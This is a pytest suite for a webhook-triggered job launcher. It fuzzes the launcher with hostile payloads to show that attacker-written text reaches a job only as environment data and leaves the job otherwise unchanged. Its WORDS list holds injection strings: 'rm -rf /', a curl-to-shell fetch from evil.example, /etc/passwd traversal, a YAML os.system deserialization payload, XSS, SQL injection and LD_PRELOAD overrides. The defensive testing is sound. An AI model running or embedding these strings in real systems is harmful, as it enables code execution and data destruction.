"""What strangers write reaches a job as data in its environment, and changes nothing else."""

from __future__ import annotations

import json
import random
import sys
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import pytest

from factories import NOON, make_rule
from jobhook.core.deliveries import Delivery, Unreadable, read_delivery
from jobhook.core.indexing import RuleIndex
from jobhook.core.jobs import JobSpec, problems_of
from jobhook.core.matching import Decision, decide, explain
from jobhook.core.occasions import occasions_of
from jobhook.core.planning import LAUNCH_LABEL, Origin, job_of, plan_launches
from jobhook.core.rules import Rule
from jobhook.core.samples import merged, sample_payload

PAYLOADS = 10_000
SECRETS = {"HF_TOKEN": "hf_value"}

WORDS = [
    "; rm -rf / #",
    "$(curl evil.example | sh)",
    "`id`",
    "'\"\\",
    "| tee /etc/passwd",
    "&& shutdown -h now",
    "> /dev/null 2>&1",
    "--privileged",
    "-c import os",
    "${{ secrets.HF_TOKEN }}",
    "${{ event.comment.content }}",
    "${HF_TOKEN}",
    "$HOME",
    "{{ 7*7 }}",
    "{% raw %}",
    "%(name)s %s %n",
    "{0.__class__}",
    "line\nline\r\nline",
    "\t\x0b\x0c",
    "\x1b[2J\x1b]0;title\x07",
    "\x01\x7f\x85",
    "\u202egnp.exe",
    "\u2066\u2069\u200f",
    "a\u200bb\u200dc\ufeff",
    "\u2028\u2029",
    "e\u0301\u0327" * 20,
    "\U0001f4a5\U0001f469\u200d\U0001f4bb",
    "\ud83d",
    "half \udca5 here",
    "\ufffe\uffff",
    "id: other\non: [commit.pushed]\nrun: {image: evil}",
    "!!python/object/apply:os.system ['id']",
    "&a *a <<: *a",
    "repo.private == true || true",
    "' || true || '",
    '","command":["sh"],"image":"evil',
    '{"event":{"scope":"repo"}}',
    "HF_TOKEN=stolen",
    "LD_PRELOAD=/tmp/x.so\nPATH=/tmp",
    "WEBHOOK_SECRET=x",
    "JOBHOOK_LAUNCH_ID=other",
    "\0",
    "null\0byte",
    "../../etc/passwd",
    "..\\..\\windows",
    "file:///etc/passwd",
    "a" * 5_000,
    "/" * 300,
    "*" * 300,
    "?**/" * 60,
    "(a+)+$" * 40,
    "%00%0a%0d",
    "\\u0000\\ud800",
    "[skip jobs]",
    "/train",
    "/train --flavor a100x8 --timeout 30d",
    "<script>alert(1)</script>",
    "DROP TABLE launch;--",
    "True",
    "null",
    "~",
    "NaN",
    "-0",
    "1e999",
]

JOB = {"image": "python:3.12", "command": ["python", "-c", "print(1)"]}
RUNS: list[Any] = [
    JOB,
    {"image": "https://huggingface.co/spaces/acme/tool", "command": ["run"], "flavor": "t4-small"},
    [JOB | {"env": {"MODE": "fast"}}, JOB | {"timeout": "2h", "secrets": ["HF_TOKEN"]}],
    JOB
    | {
        "env": {
            "SAID": "${{ discussion.title }} ${{ comment.content }}",
            "WHERE": "${{ repo.name }}@${{ ref.name }}:${{ ref.oldSha }}",
        }
    },
    {"uv": {"script": "https://acme.test/train.py", "args": ["--fast"]}},
]
ON = ["repo.created", "repo.moved", "commit.pushed", "tag.created", "pr.pushed", "repo.content"]
ON += ["files.changed", "config.changed", "pr.opened", "discussion.opened", "discussion.updated"]
ON += ["comment.created", "comment.edited", "discussion.comment", "discussion/create"]
ASKED: list[dict[str, Any]] = [
    {},
    {"repos": ["*:*/*", "!*:*/a*b*c*"]},
    {"repos": ["*:*/**", f"!id:{'b' * 24}"]},
    {"refs": ["**", "!*(*", "!refs/pr/9*"]},
    {"titles": ["*", "!*rm*rf*"]},
    {"comment": {"starts_with": ["/train", "$(", "`", "\u202e"]}},
    {"comment": {"matches": r"(?s)^(a|b|.)*$"}},
    {"private": False, "not": {"titles": ["*evil*"]}},
    {"any": [{"refs": ["*"]}, {"comment": {"matches": "."}}, {"titles": ["?*"]}]},
    {"all": [{"not": {"refs": ["none"]}}, {"private": False}]},
    {"if": "repo.name.size() > 0 && !discussion.title.contains('\\u0000')"},
    {"if": "comment.content.matches('^(.|\\n)*$') || ref.name.startsWith('refs/')"},
]
RULES = [
    make_rule(
        id=f"rule-{n}",
        watch=[],
        on=ON,
        run=RUNS[n % len(RUNS)],
        trust_strangers=True,
        **asked,
    )
    for n, asked in enumerate(ASKED)
]
INDEX = RuleIndex(RULES)
OF_ANOTHER_EVENT = make_rule(watch=[], on=["repo.deleted"])

INJECTED = {
    "WEBHOOK_PAYLOAD",
    "WEBHOOK_REPO_ID",
    "WEBHOOK_REPO_TYPE",
    "WEBHOOK_ID",
    "JOBHOOK_LAUNCH_ID",
    "JOBHOOK_RULE",
    "JOBHOOK_EVENT",
}
SOMETIMES = {"WEBHOOK_PAYLOAD_TRUNCATED", "WEBHOOK_PAYLOAD_SHA256", "JOBHOOK_TRUST"}


def hostile(number: int, text: Callable[[], str]) -> dict[str, Any]:
    """A payload of one of the *number* kinds, with *text* wherever people may write."""
    event = ON[number % len(ON)]
    ref = {"ref": f"{('refs/heads/', 'refs/tags/', 'refs/pr/', '')[number % 4]}{text()}"}
    over: dict[str, Any] = {"repo": {"name": f"{text()}/{text()}"[:512] or "a"}}
    if event in {"commit.pushed", "tag.created", "pr.pushed", "repo.content"}:
        over["updatedRefs"] = [ref | {"oldSha": text(), "newSha": text()}, ref | {"newSha": "2"}]
    if event == "files.changed":
        over["updatedFiles"] = [{"path": text(), "action": "add"} for _ in range(3)]
    if event == "repo.moved":
        over["movedTo"] = {"name": text()}
    if event.startswith(("pr.opened", "discussion", "comment")):
        over["discussion"] = {"title": text(), "status": text(), "author": {"id": text()}}
        over["comment"] = {"content": text(), "hidden": False, "author": {"id": text()}}
    if number % 7 == 0:
        over[text()] = {text(): [text()]}
    return merged(sample_payload(event), over)


def bodies() -> Iterator[bytes]:
    chance = random.Random(20261124)  # noqa: S311 - the same payloads each time

    def text() -> str:
        return "".join(chance.choices(WORDS, k=chance.choice((1, 1, 1, 2, 3))))

    for number in range(PAYLOADS):
        written = json.dumps(hostile(number, text), ensure_ascii=bool(number % 3))
        # Not UTF-8 where a half character stands bare: that is how a stranger would send it.
        yield written.encode(errors="surrogatepass")


def sent(decision: Decision, body: bytes, key: str = "w1") -> list[JobSpec]:
    """The jobs exactly as they are sent for a decision."""
    origin = Origin(instance="jobhook", source="hub", delivery="d1", key=key)
    return [job_of(each, body, SECRETS) for each in plan_launches(decision, origin, now=NOON)]


def without_env(spec: JobSpec) -> JobSpec:
    """A job without what may differ: its environment, and the label of its launch."""
    labels = {k: v for k, v in spec.labels.items() if k != LAUNCH_LABEL}
    return replace(spec, env={}, labels=labels)


def on_a_harmless_payload(rule: Rule) -> list[JobSpec]:
    body = json.dumps(sample_payload("commit.pushed")).encode()
    delivery = read_delivery(body)
    assert isinstance(delivery, Delivery)
    (occasion, *_) = occasions_of(delivery, me=None, now=NOON)
    return sent(Decision(rule, "", occasion), body)


def check_job(rule: Rule, spec: JobSpec, harmless: JobSpec, action: int) -> None:
    assert without_env(spec) == without_env(harmless)
    own = rule.run[action].env
    assert all(spec.env[name] == value for name, value in own.items() if "${{" not in value)
    assert spec.env.keys() - own.keys() - SOMETIMES == INJECTED
    assert list(problems_of(spec)) == []
    assert spec.to_wire()["environment"] == spec.env


def test_ten_thousand_hostile_payloads_launch_the_same_jobs_but_for_the_environment() -> None:
    harmless = {rule.id: on_a_harmless_payload(rule) for rule in RULES}
    seen = {"unreadable": 0, "fired": 0, "not fired": 0}
    fired_rules = set()
    for body in bodies():
        delivery = read_delivery(body)
        if isinstance(delivery, Unreadable):
            seen["unreadable"] += 1
            assert len(delivery.reason) < 400
            continue
        occasions = occasions_of(delivery, me="me", now=NOON)
        assert INDEX.near(occasions) == INDEX.rules
        for rule in RULES:
            decision = decide(occasions, rule)
            assert decision.reason
            seen["fired" if decision.fired else "not fired"] += 1
            if decision.fired:
                fired_rules.add(rule.id)
            jobs = sent(decision, body)
            for action, spec in enumerate(jobs):
                check_job(rule, spec, harmless[rule.id][action], action)
    assert fired_rules == {rule.id for rule in RULES}
    assert all(number > 500 for number in seen.values()), seen


@pytest.mark.parametrize("word", WORDS, ids=range(len(WORDS)))
def test_what_explains_a_hostile_payload_does_not_fail_either(word: str) -> None:
    payload = hostile(ON.index("comment.created"), lambda: word)
    delivery = read_delivery(json.dumps(payload).encode())
    if isinstance(delivery, Unreadable):
        assert any(part in word for part in ("\0", "\ud83d", "\udca5")), delivery
        return
    occasions = occasions_of(delivery, me="me", now=NOON)
    for rule in RULES:
        explanation = explain(occasions, rule)
        assert explanation.decision == decide(occasions, rule)
        assert all(answer.wanted for answer in explanation.answers)


def steps(act: Callable[[], object]) -> int:
    """How many functions *act* calls, in Python and in C."""
    count = 0

    def counted(_frame: object, event: str, _arg: object) -> None:
        nonlocal count
        count += event in {"call", "c_call"}

    sys.setprofile(counted)
    try:
        act()
    finally:
        sys.setprofile(None)
    return count


def of_length(kind: str, length: int) -> Delivery:
    long = ("a*b/" * length)[:length]
    parts: dict[str, dict[str, Any]] = {
        "title": {"discussion": {"title": long}},
        "comment": {"comment": {"content": long}},
        "repo": {"repo": {"name": f"acme/{long}"[:512]}},
        "ref": {
            "updatedRefs": [{"ref": f"refs/heads/{long}"[:4096], "oldSha": "1", "newSha": "2"}]
        },
        "files": {"updatedFiles": [{"path": long, "action": "add"}]},
    }
    event = {"title": "pr.opened", "comment": "comment.created", "files": "files.changed"}
    payload = merged(sample_payload(event.get(kind, "commit.pushed")), parts[kind])
    delivery = read_delivery(json.dumps(payload).encode())
    assert isinstance(delivery, Delivery)
    return delivery


def asked_of_all(delivery: Delivery) -> None:
    occasions = occasions_of(delivery, me="me", now=NOON)
    INDEX.near(occasions)
    for rule in (*RULES, OF_ANOTHER_EVENT):
        decide(occasions, rule)
        explain(occasions, rule)


@pytest.mark.parametrize("kind", ["title", "comment", "repo", "ref", "files"])
def test_deciding_takes_no_more_steps_for_a_long_text_than_for_a_short_one(kind: str) -> None:
    short, long = of_length(kind, 10), of_length(kind, 100_000)
    asked_of_all(short)  # whatever is made once is made
    few, many = steps(lambda: asked_of_all(short)), steps(lambda: asked_of_all(long))
    # A condition that fails on one and holds on the other leads to a few more questions.
    assert many < few + 10 * len(RULES)
    assert few < 200 * len(RULES)


def test_deciding_takes_as_many_more_steps_as_more_refs_came() -> None:
    def pushed(number: int) -> Delivery:
        refs = [{"ref": f"refs/tags/v{n}", "oldSha": "1", "newSha": "2"} for n in range(number)]
        payload = merged(sample_payload("commit.pushed"), {"updatedRefs": refs})
        delivery = read_delivery(json.dumps(payload).encode())
        assert isinstance(delivery, Delivery)
        return delivery

    ten, thousand = pushed(10), pushed(1000)
    asked_of_all(ten)
    few, many = steps(lambda: asked_of_all(ten)), steps(lambda: asked_of_all(thousand))
    assert many < 120 * few
